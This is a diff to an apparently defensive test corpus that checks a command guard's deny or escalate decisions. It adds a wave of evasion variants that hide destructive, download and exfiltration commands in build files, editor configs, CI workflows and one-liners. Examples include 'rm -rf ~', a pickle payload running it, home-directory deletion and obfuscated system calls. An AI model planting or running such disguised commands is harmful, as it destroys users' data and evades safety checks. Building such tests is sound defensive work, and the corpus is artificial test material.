@@ -471,6 +471,133 @@ A("destructive", W("deno.json", "{\"tasks\": {\"dev\": \"%s\"}}\n" % RM), W("den
 A("destructive", W("turbo.json", "{\"pipeline\": {}}\n"), W("turbo.json", "{\"pipeline\": {}}\n"), "(control)", "(control)")
 
 
+# ---- wave 2: evading the round's own readers ---------------------------------------------------
+A("destructive", W("build.gradle", "task x(type: Exec) {\n    executable 'sh'\n    args '-c', '%s'\n}\n" % RM),
+  W("build.gradle", "task x(type: Exec) {\n    executable 'npm'\n    args 'run', 'build'\n}\n"),
+  "an Exec task's executable and args", "npm run build")
+A("destructive", W("build.gradle.kts", "tasks.register<Exec>(\"x\") {\n    executable = \"sh\"\n    args = listOf(\"-c\", \"%s\")\n}\n" % CURL),
+  W("build.gradle.kts", "tasks.register<Exec>(\"x\") {\n    executable = \"npm\"\n    args = listOf(\"ci\")\n}\n"),
+  "Kotlin executable = and args = listOf", "npm ci")
+A("destructive", W("build.gradle", "task x(type: Exec) {\n    commandLine = ['sh', '-c', '%s']\n}\n" % RM),
+  W("build.gradle", "task x(type: Exec) {\n    commandLine = ['make', 'all']\n}\n"),
+  "commandLine assigned a list", "make all")
+A("destructive", W("build.gradle", "def home = System.getProperty('user.home')\ntask wipe(type: Delete) { delete home }\n"),
+  W("build.gradle", "def out = 'build/out'\ntask wipe(type: Delete) { delete out }\n"),
+  "(open) delete of a variable holding the home directory", "delete of a variable")
+A("destructive", W("build.gradle", "project.exec { commandLine 'sh', '-c', '%s' }\n" % EXFIL),
+  W("build.gradle", "project.exec { commandLine 'git', 'fetch' }\n"), "project.exec", "git fetch")
+A("destructive", W("build.gradle", "'sh -c \"%s\"'.execute()\n" % RM), W("build.gradle", "'git status'.execute()\n"),
+  "a single-quoted string's execute()", "git status")
+A("destructive", W("build.gradle", "\"\"\"%s\"\"\".execute()\n" % RM), W("build.gradle", "\"\"\"git status\"\"\".execute()\n"),
+  "a triple-quoted string's execute()", "git status")
+A("destructive", W("build.gradle", "def c = ['sh', '-c', '%s']\nc.execute()\n" % RM), W("build.gradle", "def c = ['git', 'status']\nc.execute()\n"),
+  "(open) a list variable's execute()", "git status")
+A("destructive", W("pom.xml", "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration>\n"
+                   "<executable>\n  sh\n</executable>\n<arguments>\n<argument>-c</argument>\n<argument>%s</argument>\n</arguments></configuration></plugin></plugins></build></project>\n" % RM),
+  W("pom.xml", "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration>\n"
+    "<executable>\n  npm\n</executable>\n<arguments>\n<argument>test</argument>\n</arguments></configuration></plugin></plugins></build></project>\n"),
+  "whitespace around the executable", "npm test")
+A("destructive", W("pom.xml", "<project><properties><x>%s</x></properties><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration>"
+                   "<executable>sh</executable><arguments><argument>-c</argument><argument>${x}</argument></arguments></configuration></plugin></plugins></build></project>\n" % RM),
+  W("pom.xml", "<project><properties><x>make</x></properties><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration>"
+    "<executable>sh</executable><arguments><argument>-c</argument><argument>${x}</argument></arguments></configuration></plugin></plugins></build></project>\n"),
+  "(open) a property holding the command", "a property naming make")
+A("destructive", W("pom.xml", "<project><build><plugins><plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target>\n"
+                   "<exec executable='sh'><arg value='-c'/><arg value='%s'/></exec>\n</target></configuration></plugin></plugins></build></project>\n" % RM),
+  W("pom.xml", "<project><build><plugins><plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target>\n"
+    "<exec executable='make'><arg value='all'/></exec>\n</target></configuration></plugin></plugins></build></project>\n"),
+  "single-quoted attributes", "make all")
+A("destructive", W("pom.xml", "<project><build><plugins><plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target>\n"
+                   "<exec\n  executable=\"sh\"><arg\n  value=\"-c\"/><arg\n  value=\"%s\"/></exec>\n</target></configuration></plugin></plugins></build></project>\n" % CURL),
+  W("pom.xml", "<project><build><plugins><plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target>\n"
+    "<exec\n  executable=\"make\"><arg\n  value=\"all\"/></exec>\n</target></configuration></plugin></plugins></build></project>\n"),
+  "attributes on new lines", "make all")
+A("destructive", W("meson.build", "sh = find_program('sh')\nrun_command(sh, '-c', '%s')\n" % RM),
+  W("meson.build", "git = find_program('git')\nrun_command(git, 'describe')\n"),
+  "run_command of a find_program variable", "git describe")
+A("destructive", W("Procfile", "  web:   %s\n" % RM), W("Procfile", "  web:   npm start\n"), "indented Procfile line", "npm start")
+A("destructive", W(".Rprofile", "system(paste('rm', '-rf', '~'))\n"), W(".Rprofile", "system(paste('git', 'status'))\n"),
+  "system of a pasted command", "git status")
+A("destructive", W(".Rprofile", "base::system('%s')\n" % CURL), W(".Rprofile", "base::system('git status')\n"), "base::system", "git status")
+A("destructive", W(".Rprofile", "f <- system\nf('%s')\n" % RM), W(".Rprofile", "f <- print\nf('x')\n"), "(open) system bound to a name", "print bound")
+A("destructive", W(".exrc", ":r !%s\n" % EXFIL), W(".exrc", ":r !date\n"), ":r !cmd reads a command's output", "date")
+A("destructive", W(".exrc", "call jobstart(['sh', '-c', '%s'])\n" % RM), W(".exrc", "call jobstart(['make'])\n"), "jobstart with a list", "make")
+A("destructive", W(".vimrc", "silent! execute '!%s'\n" % RM), W(".vimrc", "silent! execute 'set tw=80'\n"), "silent! execute", "a setting")
+A("destructive", W(".vimrc", "lua os.execute('%s')\n" % RM), W(".vimrc", "lua vim.opt.number = true\n"), "lua in a vimrc", "a lua setting")
+A("destructive", W(".vimrc", "py3 import os; os.system('%s')\n" % CURL), W(".vimrc", "py3 import sys\n"), "python in a vimrc", "import sys")
+A("destructive", W(".gdbinit", "python\nimport os\nos.system('%s')\nend\n" % RM), W(".gdbinit", "python\nimport sys\nend\n"), "a gdb python block", "import sys")
+A("destructive", W(".vscode/launch.json", "{\"configurations\": [{\"type\": \"node\", \"request\": \"launch\", \"name\": \"x\",\n \"runtimeArgs\": [\"-e\", \"require('child_process').execSync('%s')\"]}]}\n" % RM),
+  W(".vscode/launch.json", "{\"configurations\": [{\"type\": \"node\", \"request\": \"launch\", \"name\": \"x\",\n \"runtimeArgs\": [\"--inspect\"]}]}\n"),
+  "node's runtime args without an executable", "--inspect")
+A("destructive", W(".vscode/launch.json", "// comment\n{\"configurations\": [{\"type\": \"python\", \"request\": \"launch\", \"name\": \"x\", \"program\": \"-c\", \"args\": []}],\n"
+                   " \"inputs\": [{\"id\": \"x\", \"type\": \"command\", \"command\": \"shellCommand.execute\", \"args\": {\"command\": \"%s\"}}]}\n" % RM),
+  W(".vscode/launch.json", "// comment\n{\"configurations\": [{\"type\": \"python\", \"request\": \"launch\", \"name\": \"x\", \"program\": \"a.py\"}],\n"
+    " \"inputs\": [{\"id\": \"x\", \"type\": \"command\", \"command\": \"shellCommand.execute\", \"args\": {\"command\": \"git branch --show-current\"}}]}\n"),
+  "an input running a shell command", "git branch")
+A("destructive", W(".vscode/settings.json", "{\"terminal.integrated.env.linux\": {\"BASH_ENV\": \"/tmp/x.sh\", \"PROMPT_COMMAND\": \"%s\"}}\n" % RM),
+  W(".vscode/settings.json", "{\"terminal.integrated.env.linux\": {\"PATH\": \"${workspaceFolder}/bin:${env:PATH}\"}}\n"),
+  "PROMPT_COMMAND in the terminal's environment", "a PATH")
+A("destructive", W(".vscode/tasks.json", "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"x\", \"type\": \"shell\", \"command\": \"sh\", \"args\": [\"-c\", \"%s\"], \"runOptions\": {}}]}\n" % EXFIL),
+  W(".vscode/tasks.json", "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"x\", \"type\": \"shell\", \"command\": \"make\", \"args\": [\"test\"], \"runOptions\": {}}]}\n"),
+  "a task's command with args", "make test")
+A("destructive", W(".vscode/tasks.json", "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"x\", \"type\": \"shell\", \"linux\": {\"command\": \"%s\"}}]}\n" % RM),
+  W(".vscode/tasks.json", "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"x\", \"type\": \"shell\", \"linux\": {\"command\": \"make\"}}]}\n"),
+  "a platform-specific command", "make")
+A("destructive", W("pytest.ini", "[pytest]\naddopts =\n    -q\n    --basetemp=/home/dev\n"), W("pytest.ini", "[pytest]\naddopts =\n    -q\n    --basetemp=tmp/pytest\n"),
+  "addopts over several lines", "basetemp in the project")
+A("destructive", W("pytest.ini", "[pytest]\naddopts = --basetemp ~\n"), W("pytest.ini", "[pytest]\naddopts = --basetemp tmp\n"),
+  "--basetemp with a separate value", "tmp")
+A("destructive", W("pytest.ini", "[pytest]\naddopts = -pevil\n"), W("pytest.ini", "[pytest]\naddopts = -pno:warnings\n"), "-p joined to its module", "-pno:")
+A("destructive", W("pyproject.toml", "[tool.pytest.ini_options]\naddopts = [\"-p\", \"evil\"]\n"), W("pyproject.toml", "[tool.pytest.ini_options]\naddopts = [\"-p\", \"no:cacheprovider\"]\n"),
+  "addopts as a TOML array", "-p no:")
+A("destructive", W(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: 'docker://alpine:3'\n        with:\n          args: sh -c \"%s\"\n" % RM),
+  W(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: 'docker://alpine:3'\n        with:\n          args: sh -c \"make test\"\n"),
+  "a quoted docker:// image", "make test")
+A("destructive", W(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container: alpine\n    steps:\n      - run: \"%s\"\n        shell: sh\n" % RM),
+  W(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container: alpine\n    steps:\n      - run: \"make\"\n        shell: sh\n"),
+  "(control) a quoted run", "make")
+A("destructive", W(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: 'rm -rf ''~'''\n"),
+  W(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: 'echo ''hi'''\n"),
+  "a doubled quote in a single-quoted scalar", "echo hi")
+A("destructive", W(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: \"\\u0072m -rf ~\"\n"),
+  W(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: \"\\u006dake\"\n"),
+  "a \\u escape", "make")
+A("destructive", W(".gitlab-ci.yml", "test:\n  script:\n    - \"rm\n      -rf ~\"\n"), W(".gitlab-ci.yml", "test:\n  script:\n    - \"make\n      test\"\n"),
+  "a quoted list item over two lines", "make test")
+A("destructive", W("build.rs", "use std::process::{Command as C, Stdio};\nfn main() { C::new(\"sh\").arg(\"-c\").arg(\"%s\").status().unwrap(); }\n" % RM),
+  W("build.rs", "use std::process::{Command as C, Stdio};\nfn main() { C::new(\"git\").arg(\"status\").status().unwrap(); }\n"),
+  "an alias inside braces", "git status")
+A("destructive", W("build.rs", "use std::process::Command;\nfn main() { Command::new(\"sh\").args(vec![\"-c\", \"%s\"]).status().unwrap(); }\n" % RM),
+  W("build.rs", "use std::process::Command;\nfn main() { Command::new(\"git\").args(vec![\"status\"]).status().unwrap(); }\n"),
+  "args from vec!", "git status")
+A("destructive", W("build.rs", "fn main() { std::fs::remove_dir_all(dirs::home_dir().unwrap()).unwrap(); }\n"),
+  W("build.rs", "fn main() { std::fs::remove_dir_all(\"target/gen\").ok(); }\n"),
+  "remove_dir_all of home_dir()", "target/gen")
+A("destructive", B("python3 -c " + sq("from os import system as s\ns('%s')\n" % RM)), B("python3 -c " + sq("from os import getcwd as s\nprint(s())\n")),
+  "from os import system as", "getcwd")
+A("destructive", B("python3 -c " + sq("import importlib\nm = importlib.import_module('os')\nm.system('%s')\n" % RM)), B("python3 -c " + sq("import importlib\nm = importlib.import_module('json')\nprint(m.dumps(1))\n")),
+  "import_module bound to a name", "json")
+A("destructive", B("python3 -c " + sq("import pickle\npickle.loads(bytes.fromhex('63'))\n")), B("python3 -c " + sq("import pickle\npickle.loads(pickle.dumps(1))\n")),
+  "pickle of decoded bytes", "a round trip")
+A("destructive", B("python3 -c " + sq("import _pickle\n_pickle.loads(b'cos\\nsystem\\n(S\"rm -rf ~\"\\ntR.')\n")), B("python3 -c " + sq("import _pickle\nprint(_pickle.dumps(1))\n")),
+  "_pickle.loads", "_pickle.dumps")
+A("destructive", B("lua -e " + sq("local s = 'exec' .. 'ute'; os[s]('%s')" % RM)), B("lua -e " + sq("local s = 'ti' .. 'me'; print(os[s]())")),
+  "(open) a folded name through a local", "os.time")
+A("destructive", B("lua -e " + sq("os [ 'exe' .. 'cute' ] ( '%s' )" % RM)), B("lua -e " + sq("print ( 'exe' .. 'cute' )")),
+  "folding with blanks", "print")
+A("destructive", B("perl -e " + sq("goto &CORE::system; system('%s')" % RM)), B("perl -e " + sq("print 1")), "(control)", "print")
+A("destructive", B("perl -e " + sq("*s = \\&CORE::system; s('%s')" % RM)), B("perl -e " + sq("*s = \\&CORE::print; s('x')")),
+  "a glob bound to CORE::system", "print")
+A("destructive", B("perl -e " + sq("use IPC::Run 'run'; run(['sh', '-c', '%s'])" % CURL)), B("perl -e " + sq("use IPC::Run 'run'; run(['git', 'status'])")),
+  "IPC::Run with parentheses", "git status")
+A("destructive", B("deno eval " + sq("const p = new Deno.Command('sh', {args: ['-c', '%s']}); await p.output()" % RM)), B("deno eval " + sq("const p = new Deno.Command('git', {args: ['log']}); await p.output()")),
+  "a bound Deno.Command", "git log")
+A("destructive", B("deno eval " + sq("new Deno.Command('sh', {cwd: '/', args: ['-c', '%s']}).spawn()" % RM)), B("deno eval " + sq("new Deno.Command('git', {cwd: '/', args: ['log']}).spawn()")),
+  "args after another option", "git log")
+A("destructive", B("bun -e " + sq("import {$} from 'bun'; await $`%s`" % RM)), B("bun -e " + sq("import {$} from 'bun'; await $`git status`")),
+  "Bun's $ imported", "git status")
+
+
 def rows(kept):
     out = []
     for i, (cls, attack, twin, why, twin_why) in enumerate(ATTEMPTS):
@@ -489,19 +616,24 @@ def rows(kept):
 KEPT = {0: "deny", 1: "deny", 2: "deny", 3: "deny", 4: "deny", 5: "deny", 6: "deny", 7: "deny",
         8: "deny", 9: "deny", 10: "deny", 11: "deny", 12: "deny", 13: "deny", 14: "deny",
         15: "deny", 16: "deny", 17: "deny", 18: "deny", 19: "deny", 20: "deny", 21: "deny",
-        22: "deny", 23: "deny", 24: "deny", 26: "deny", 27: "deny", 28: "deny", 29: "deny",
-        30: "deny", 31: "deny", 32: "deny", 33: "deny", 34: "deny", 35: "deny", 36: "deny",
-        37: "deny", 38: "deny", 39: "deny", 40: "deny", 41: "deny", 42: "deny", 43: "deny",
-        44: "deny", 45: "deny", 46: "deny", 47: "deny", 48: "deny", 50: "deny", 52: "deny",
-        53: "escalate", 54: "deny", 55: "escalate", 56: "deny", 59: "deny", 60: "deny", 61: "deny",
-        62: "deny", 63: "deny", 65: "deny", 68: "deny", 71: "deny", 73: "escalate", 74: "escalate",
-        76: "escalate", 108: "deny", 111: "deny", 114: "deny", 116: "escalate", 117: "escalate",
-        119: "escalate", 120: "deny", 121: "deny", 122: "deny", 128: "escalate", 135: "escalate",
-        170: "deny", 173: "deny", 174: "deny", 175: "deny", 176: "deny", 177: "deny", 178: "deny",
-        179: "deny", 180: "deny", 181: "deny", 182: "deny", 183: "deny", 184: "deny", 185: "deny",
-        186: "deny", 187: "deny", 188: "deny", 189: "deny", 190: "deny", 191: "deny", 192: "deny",
-        193: "deny", 194: "deny", 195: "deny", 196: "deny", 197: "deny", 200: "deny", 201: "deny",
-        209: "deny", 210: "deny", 211: "deny", 212: "deny", 213: "deny", 215: "deny", 216: "deny"}
+        22: "deny", 23: "deny", 24: "deny", 25: "deny", 26: "deny", 27: "deny", 28: "deny",
+        29: "deny", 30: "deny", 31: "deny", 32: "deny", 33: "deny", 34: "deny", 35: "deny",
+        36: "deny", 37: "deny", 38: "deny", 39: "deny", 40: "deny", 41: "deny", 42: "deny",
+        43: "deny", 44: "deny", 45: "deny", 46: "deny", 47: "deny", 48: "deny", 50: "deny",
+        52: "deny", 53: "escalate", 54: "deny", 55: "escalate", 56: "deny", 59: "deny", 60: "deny",
+        61: "deny", 62: "deny", 63: "deny", 65: "deny", 68: "deny", 71: "deny", 73: "escalate",
+        74: "escalate", 76: "escalate", 108: "deny", 111: "deny", 114: "deny", 116: "escalate",
+        117: "escalate", 119: "escalate", 120: "deny", 121: "deny", 122: "deny", 128: "escalate",
+        130: "deny", 131: "deny", 132: "deny", 135: "escalate", 140: "deny", 141: "deny",
+        142: "deny", 144: "deny", 170: "deny", 173: "deny", 174: "deny", 175: "deny", 176: "deny",
+        177: "deny", 178: "deny", 179: "deny", 180: "deny", 181: "deny", 182: "deny", 183: "deny",
+        184: "deny", 185: "deny", 186: "deny", 187: "deny", 188: "deny", 189: "deny", 190: "deny",
+        191: "deny", 192: "deny", 193: "deny", 194: "deny", 195: "deny", 196: "deny", 197: "deny",
+        198: "deny", 200: "deny", 201: "deny", 209: "deny", 210: "deny", 211: "deny", 212: "deny",
+        213: "deny", 215: "deny", 216: "deny", 219: "deny", 220: "deny", 222: "deny", 225: "deny",
+        227: "deny", 230: "deny", 231: "deny", 232: "deny", 236: "deny", 239: "deny", 240: "deny",
+        241: "deny", 242: "deny", 244: "deny", 247: "deny", 248: "deny", 251: "deny",
+        261: "escalate", 270: "deny"}
 
 if __name__ == "__main__":
     if len(sys.argv) > 2 and sys.argv[1] == "--attempts":
